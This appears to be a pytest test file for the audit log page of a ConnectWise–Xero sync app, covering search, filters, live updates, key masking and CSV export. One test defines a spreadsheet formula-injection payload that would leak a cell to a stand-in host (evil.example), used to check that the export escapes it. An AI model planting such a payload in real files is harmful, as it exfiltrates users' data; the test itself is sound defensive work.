"""The audit page shows real calls Ferry made to the ConnectWise sandbox: searchable,
each one openable, exportable as CSV, and with the keys masked."""
import csv
import io
import re

import pytest

from connectors.connectwise import ConnectWise, CWSettings
from connectors.errors import AuthenticationFailed
from jobs.audit import DatabaseAuditSink
from models import db
from sandbox.connectwise import DEFAULTS, create_app
from sandbox.kit import serve_in_thread
from tests.sync_e2e.conftest import clock, cw, xero  # noqa: F401  (fixtures)


@pytest.fixture(scope="module")
def cw_sandbox():
    server = serve_in_thread(create_app(seed=1))
    yield server
    server.stop()


def _calls(app, url, private_key=DEFAULTS["private_key"]):
    """Read locations, then try a wrong key: two successes and a refusal in the trail."""
    settings = CWSettings(site=url, company_id=DEFAULTS["company"],
                          public_key=DEFAULTS["public_key"], private_key=private_key,
                          client_id=DEFAULTS["client_id"])
    with app.app_context(), db.connection_context(), DatabaseAuditSink() as sink:
        client = ConnectWise(settings, sink=sink, context={"run_id": 7})
        with client.bind(record_ref="invoice:1001"):
            assert list(client.locations())
        client.close()
        wrong = ConnectWise(CWSettings(**{**settings.__dict__, "private_key": "wrong-key"}),
                            sink=sink)
        with pytest.raises(AuthenticationFailed):
            list(wrong.departments())
        wrong.close()


def test_audit_search_detail_and_export(app, client, auth, cw_sandbox):
    _calls(app, cw_sandbox.url)
    auth.login()
    page = client.get("/audit/").get_data(as_text=True)
    assert "system/locations" in page and "system/departments" in page
    assert "invoice:1001" in page

    refused = client.get("/audit/?outcome=client_error").get_data(as_text=True)
    assert "system/departments" in refused and "system/locations" not in refused

    by_record = client.get("/audit/?q=invoice:1001", headers={"HX-Request": "true"})
    text = by_record.get_data(as_text=True)
    assert "<html" not in text and "system/locations" in text
    assert "system/departments" not in text

    by_run = client.get("/audit/?run=7").get_data(as_text=True)
    assert "system/locations" in by_run

    entry_link = client.get("/audit/?q=departments").get_data(as_text=True)
    entry_id = re.search(r'href="/audit/(\d+)"', entry_link).group(1)
    detail = client.get(f"/audit/{entry_id}").get_data(as_text=True)
    assert "401" in detail and "Basic ***" in detail
    assert DEFAULTS["private_key"] not in detail and "wrong-key" not in detail

    export = client.get("/audit/export.csv?api=connectwise")
    assert export.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(export.get_data(as_text=True))))
    assert rows[0][0] == "time (UTC)"
    assert any("system/locations" in row[3] for row in rows[1:])
    body = export.get_data(as_text=True)
    assert "wrong-key" not in body and DEFAULTS["private_key"] not in body


def test_bad_dates_get_a_sentence_and_unknown_entries_404(client, auth):
    auth.login()
    page = client.get("/audit/?from=21/11/2026").get_data(as_text=True)
    assert "is not a date like 2026-11-21" in page
    assert client.get("/audit/999999").status_code == 404


def test_a_record_reference_finds_that_record_only(app, client, auth):
    from models import AuditEntry, utcnow
    with app.app_context(), db.connection_context():
        for ref in ("invoice:5", "invoice:50", "bill:5"):
            AuditEntry.create(at=utcnow(), api="xero", method="PUT", status=200,
                              url=f"https://api.xero.com/api.xro/2.0/Invoices#{ref}",
                              duration_ms=10.0, record_ref=ref)
    auth.login()
    page = client.get("/audit/?q=invoice:5").get_data(as_text=True)
    assert "Invoices#invoice:5" in page
    assert "Invoices#invoice:50" not in page and "Invoices#bill:5" not in page


def _entry(ref=None, **fields):
    from models import AuditEntry, utcnow
    values = {"at": utcnow(), "api": "xero", "method": "GET", "status": 200,
              "url": "https://api.xero.com/api.xro/2.0/Invoices", "duration_ms": 10.0,
              "record_ref": ref}
    values.update(fields)
    return AuditEntry.create(**values)


def test_a_cw_number_finds_the_record_and_rows_link_record_and_run(app, client, auth):
    from models import SyncRecord
    with app.app_context(), db.connection_context():
        record = SyncRecord.create(record_type="invoice", cw_id=1377, cw_number="10077",
                                   state="synced", party_name="Barossa Wines Pty Ltd")
        _entry("invoice:1377", method="PUT", run_id=12,
               url="https://api.xero.com/api.xro/2.0/Invoices?summarizeErrors=false")
        _entry("invoice:1378", url="https://api.xero.com/api.xro/2.0/Invoices?other")
    auth.login()
    # Its number as the pages name it ("Invoice 10077"), its CW id, or the number alone.
    for text in ("invoice:10077", "invoice:1377", "10077"):
        page = client.get(f"/audit/?q={text}").get_data(as_text=True)
        assert "summarizeErrors=false" in page and "Invoices?other" not in page, text
        assert f'href="/records/{record.id}">Invoice 10077<' in page
        assert 'href="/runs/12">12<' in page
    by_customer = client.get("/audit/?customer=Barossa").get_data(as_text=True)
    assert "summarizeErrors=false" in by_customer and "Invoices?other" not in by_customer
    by_type = client.get("/audit/?type=bill").get_data(as_text=True)
    assert "summarizeErrors" not in by_type


def test_filters_by_status_method_and_connection(app, client, auth):
    from models import Connection
    with app.app_context(), db.connection_context():
        org = Connection.create(kind="xero", name="Adelaide IT", tenant_id="t")
        _entry(None, status=429, url="https://x/too-many", connection_id=org.id)
        _entry(None, status=200, method="POST", url="https://x/posted")
    auth.login()
    page = client.get("/audit/?status=429").get_data(as_text=True)
    assert "too-many" in page and "posted" not in page
    page = client.get("/audit/?method=POST").get_data(as_text=True)
    assert "posted" in page and "too-many" not in page
    page = client.get(f"/audit/?org={org.id}").get_data(as_text=True)
    assert "too-many" in page and "posted" not in page
    refused = client.get("/audit/?status=abc", headers={"HX-Request": "true"})
    assert refused.status_code == 422
    assert "is not an HTTP status code" in refused.get_data(as_text=True)


def test_live_answers_only_newer_entries_and_pauses(app, client, auth):
    with app.app_context(), db.connection_context():
        old = _entry(None, url="https://x/old")
    auth.login()
    page = client.get("/audit/").get_data(as_text=True)
    assert f'data-after="{old.id}"' in page and 'hx-trigger="every 2s"' in page
    with app.app_context(), db.connection_context():
        new = _entry(None, url="https://x/new", status=503)
    live = client.get(f"/audit/live?after={old.id}", headers={"HX-Request": "true"})
    text = live.get_data(as_text=True)
    assert "/new" in text and "/old" not in text
    assert 'hx-swap-oob="afterbegin:#audit-rows"' in text
    assert f'data-after="{new.id}"' in text
    filtered = client.get(f"/audit/live?after={old.id}&outcome=ok").get_data(as_text=True)
    assert "/new" not in filtered
    paused = client.get(f"/audit/live?after={old.id}&paused=1").get_data(as_text=True)
    assert "Resume live updates" in paused and "every 2s" not in paused
    assert "/new" not in paused


def test_detail_shows_json_pretty_and_side_by_side(app, client, auth):
    with app.app_context(), db.connection_context():
        entry = _entry(None, method="PUT", request_body='{"Invoices":[{"InvoiceNumber":"1"}]}',
                       response_body="plain words")
    auth.login()
    page = client.get(f"/audit/{entry.id}").get_data(as_text=True)
    assert 'class="side-by-side"' in page
    assert '{\n  &#34;Invoices&#34;: [\n    {\n      &#34;InvoiceNumber&#34;: &#34;1&#34;' in page
    assert "<details" in page and "Body (JSON)" in page and "plain words" in page


def test_csv_export_streams_every_row_in_chunks(app, client, auth, monkeypatch):
    import blueprints.audit
    from models import AuditEntry, utcnow
    monkeypatch.setattr(blueprints.audit, "EXPORT_CHUNK", 7)
    with app.app_context(), db.connection_context():
        now = utcnow()
        AuditEntry.insert_many([{"at": now, "api": "xero", "method": "GET", "status": 200,
                                 "url": f"https://x/{i}", "duration_ms": 1.0}
                                for i in range(30)]).execute()
    auth.login()
    export = client.get("/audit/export.csv")
    assert export.is_streamed
    rows = list(csv.reader(io.StringIO(export.get_data(as_text=True))))
    assert len(rows) == 31 and sorted(r[3] for r in rows[1:]) == sorted(
        f"https://x/{i}" for i in range(30))


def test_text_search_finds_url_and_error_words_through_the_index(app, client, auth):
    from models import AuditEntry
    with app.app_context(), db.connection_context():
        _entry(None, url="https://api.xero.com/api.xro/2.0/TrackingCategories?x=1")
        gone = _entry(None, url="https://x/old-call", error="Xero said: Organisation offline")
        _entry(None, url="https://x/other")
    auth.login()
    assert "TrackingCategories" in client.get("/audit/?q=trackingcat").get_data(as_text=True)
    page = client.get("/audit/?q=organisation offline").get_data(as_text=True)
    assert "/old-call" in page and "/other" not in page
    with app.app_context(), db.connection_context():
        AuditEntry.delete().where(AuditEntry.id == gone.id).execute()   # the nightly purge
    assert "/old-call" not in client.get("/audit/?q=organisation offline").get_data(as_text=True)
    assert "No requests match" in client.get("/audit/?q=nothing-like-this").get_data(as_text=True)


def test_a_record_finds_the_batch_write_that_carried_it(app, client, auth):
    from models import RecordEvent, SyncRecord, SyncRun
    with app.app_context(), db.connection_context():
        run = SyncRun.create(record_type="invoice", status="running")
        other = SyncRun.create(record_type="invoice", status="running")
        record = SyncRecord.create(record_type="invoice", cw_id=1377, cw_number="10077",
                                   state="synced")
        RecordEvent.create(record=record, run=run, kind="created", message="Written to Xero.")
        batch = '{"Invoices": [{"InvoiceNumber": "10076"}, {"InvoiceNumber": "10077"}]}'
        _entry(None, method="PUT", run_id=run.id, request_body=batch,
               url="https://api.xero.com/api.xro/2.0/Invoices?batch=mine")
        _entry(None, method="PUT", run_id=other.id, request_body=batch,
               url="https://api.xero.com/api.xro/2.0/Invoices?batch=another-run")
        _entry(None, method="PUT", run_id=run.id,
               request_body='{"Invoices": [{"InvoiceNumber": "100770"}]}',
               url="https://api.xero.com/api.xro/2.0/Invoices?batch=longer-number")
    auth.login()
    for text in ("10077", "invoice:1377"):
        page = client.get(f"/audit/?q={text}").get_data(as_text=True)
        assert "batch=mine" in page, text
        assert "batch=another-run" not in page and "batch=longer-number" not in page


def test_a_cycles_batch_writes_name_their_records_and_are_found_by_number(
        app, client, auth, cw, xero, clock):  # noqa: F811
    """A real invoice cycle against both sandboxes: each PUT of many invoices says how
    many it carried and links the first of them; any one invoice's number finds it."""
    from jobs.cycle import Pacing, run_cycle
    from jobs.demo import connect_sandboxes, seed_mappings_from_catalog
    from models import AuditEntry, SyncRecord
    with app.app_context(), db.connection_context():
        connect_sandboxes(cw.url, xero.url)
        seed_mappings_from_catalog()
        run_cycle("invoice", pacing=Pacing(clock.sleep, clock.clock))
        batch = (AuditEntry.select().where((AuditEntry.method == "PUT") &
                                           AuditEntry.record_refs.is_null(False))
                 .order_by(AuditEntry.id).first())
        assert batch is not None and batch.record_ref == "invoice:"
        ids = [int(i) for i in batch.record_refs.strip(",").split(",")]
        assert len(ids) > 3
        carried = {r.cw_id: r for r in SyncRecord.select().where(SyncRecord.cw_id.in_(ids))}
    first, second, last = carried[ids[0]], carried[ids[1]], carried[ids[-1]]
    auth.login()
    page = client.get("/audit/?method=PUT").get_data(as_text=True)
    row = re.search(rf'<tr id="entry-{batch.id}">.*?</tr>', page, re.S).group(0)
    cell = re.search(r'<td class="record">(.*?)</td>', row, re.S).group(1)
    words = " ".join(re.sub(r"<[^>]+>", "", cell).split())
    assert words.startswith(f"{len(ids)} invoices: {first.cw_number}, {second.cw_number}, ")
    assert words.endswith(f"and {len(ids) - 3} more")
    assert f'href="/records/{first.id}"' in cell
    # Its own page names every record it carried.
    detail = client.get(f"/audit/{batch.id}").get_data(as_text=True)
    assert f'href="/records/{last.id}"' in detail and f">{last.cw_number}</a>" in detail
    # The last invoice of the batch, searched as the pages show it, finds that write.
    found = client.get(f"/audit/?q=invoice:{last.cw_number}").get_data(as_text=True)
    assert f'id="entry-{batch.id}"' in found
    # The type filter keeps batch writes (their record_ref is the type alone).
    assert f'id="entry-{batch.id}"' in client.get("/audit/?type=invoice").get_data(as_text=True)
    assert f'id="entry-{batch.id}"' not in client.get("/audit/?type=bill").get_data(as_text=True)
    export = client.get("/audit/export.csv?method=PUT").get_data(as_text=True)
    assert f"invoice:{','.join(map(str, ids))}" in export


def test_csv_export_keeps_formulas_from_spreadsheets(app, client, auth):
    """A body or error Ferry was sent can be made to look like a formula: in the export
    it is text, with the apostrophe spreadsheets hide."""
    evil = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
    with app.app_context(), db.connection_context():
        _entry(None, status=500, url="https://x/evil", error=evil, response_body=evil,
               request_body="+SUM(1,2)")
    auth.login()
    rows = list(csv.reader(io.StringIO(client.get("/audit/export.csv").get_data(as_text=True))))
    row = next(r for r in rows if r[3] == "https://x/evil")
    assert row[9] == "'" + evil and row[11] == "'" + evil and row[10] == "'+SUM(1,2)"
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)


def test_a_nul_in_the_search_is_a_sentence_not_a_server_error(app, client, auth):
    with app.app_context(), db.connection_context():
        _entry(None, url="https://x/kept")
    auth.login()
    for args in ("q=a%00b", "customer=a%00b", "q=invoice:1%00"):
        page = client.get(f"/audit/?{args}", headers={"HX-Request": "true"})
        assert page.status_code == 422, args
        assert "invisible character (NUL)" in page.get_data(as_text=True)
        assert client.get(f"/audit/?{args}").status_code == 422
        assert client.get(f"/audit/live?after=0&{args}").status_code == 200
        export = client.get(f"/audit/export.csv?{args}")
        assert export.status_code == 422 and "NUL" in export.get_data(as_text=True)
    # Numbers no id can be, and digits int() refuses, are sentences or no match, not 500s.
    too_big = "9" * 30
    for args, status in ((f"run={too_big}", 422), ("status=%C2%B2", 422),
                         (f"q=invoice:{too_big}", 200), (f"org={too_big}", 200)):
        assert client.get(f"/audit/?{args}").status_code == status, args
